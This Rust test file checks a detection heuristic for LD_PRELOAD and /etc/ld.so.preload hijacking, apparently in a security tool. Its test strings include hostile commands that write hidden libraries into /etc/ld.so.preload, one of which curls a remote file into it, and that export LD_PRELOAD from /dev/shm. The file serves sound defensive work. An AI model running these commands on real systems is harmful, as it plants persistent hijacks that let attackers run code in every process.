use super::*;
use crate::heuristics::testing::{found, history};
use riposte_model::EventOrigin;

fn one(cmd: &str) -> Vec<(String, Severity)> {
    found(&LdPreloadHijack.detect(&history(&[cmd])))
}

fn is(id: &str, severity: Severity) -> Vec<(String, Severity)> {
    vec![(id.to_string(), severity)]
}

#[test]
fn libraries_written_into_ld_so_preload() {
    for cmd in [
        "echo /etc/libsystem.so > /etc/ld.so.preload",
        "echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload",
        "printf '/lib/x.so\\n' >> /etc/ld.so.preload",
        "echo $LIB | tee -a /etc/ld.so.preload",
        "echo /tmp/.h.so | sudo tee /etc/ld.so.preload",
        "cp /tmp/p /etc/ld.so.preload",
        "curl -s http://203.0.113.7/p -o /etc/ld.so.preload",
    ] {
        assert_eq!(
            one(cmd),
            is("ld_so_preload_written", Severity::High),
            "{cmd}"
        );
    }
}

#[test]
fn ld_preload_by_library_location() {
    for (cmd, severity) in [
        ("export LD_PRELOAD=/dev/shm/.x.so", Severity::High),
        ("LD_PRELOAD=/home/bob/.cache/l.so /bin/ls", Severity::High),
        ("LD_PRELOAD=./libfaketime.so ./test", Severity::Medium),
        (
            "export LD_PRELOAD=/usr/local/lib/libhook.so",
            Severity::Medium,
        ),
        (
            "LD_PRELOAD=\"/usr/lib/libc_hook.so:/opt/x/y.so\" app",
            Severity::Medium,
        ),
    ] {
        assert_eq!(one(cmd), is("ld_preload_set", severity), "{cmd}");
    }
}

#[test]
fn clearing_reading_and_system_libraries_raise_nothing() {
    for cmd in [
        "> /etc/ld.so.preload",
        "echo '' > /etc/ld.so.preload",
        "cat /etc/ld.so.preload",
        "cp /etc/ld.so.preload /root/preload.bak",
        "rm -f /etc/ld.so.preload",
        "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server",
        "export LD_PRELOAD=",
        "unset LD_PRELOAD",
        "ldd /bin/ls",
    ] {
        assert_eq!(one(cmd), [], "{cmd}");
    }
}

#[test]
fn ld_so_preload_entries_by_location() {
    let entry = |path: &str| {
        Event::new(
            None,
            "web1",
            Action::FileExists,
            "preload",
            EventOrigin {
                parser: "ld_so_preload".into(),
                path: "/etc/ld.so.preload".into(),
                record: Some(1),
            },
        )
        .with("file_path", path)
        .with("persistence", "ld_so_preload")
    };
    let events = [
        entry("/etc/libsystem.so"),
        entry("/usr/lib/x86_64-linux-gnu/libsnoopy.so"),
        entry("/usr/lib/.hidden/x.so"),
    ];
    let alarms = LdPreloadHijack.detect(&events);
    assert_eq!(
        found(&alarms),
        [
            ("ld_so_preload_entry".to_string(), Severity::High),
            ("ld_so_preload_entry".to_string(), Severity::Medium),
            ("ld_so_preload_entry".to_string(), Severity::High),
        ]
    );
    assert_eq!(
        alarms[0].title,
        "/etc/libsystem.so is preloaded into every process (/etc/ld.so.preload)"
    );
    assert_eq!(alarms[2].event_refs, [2]);
}
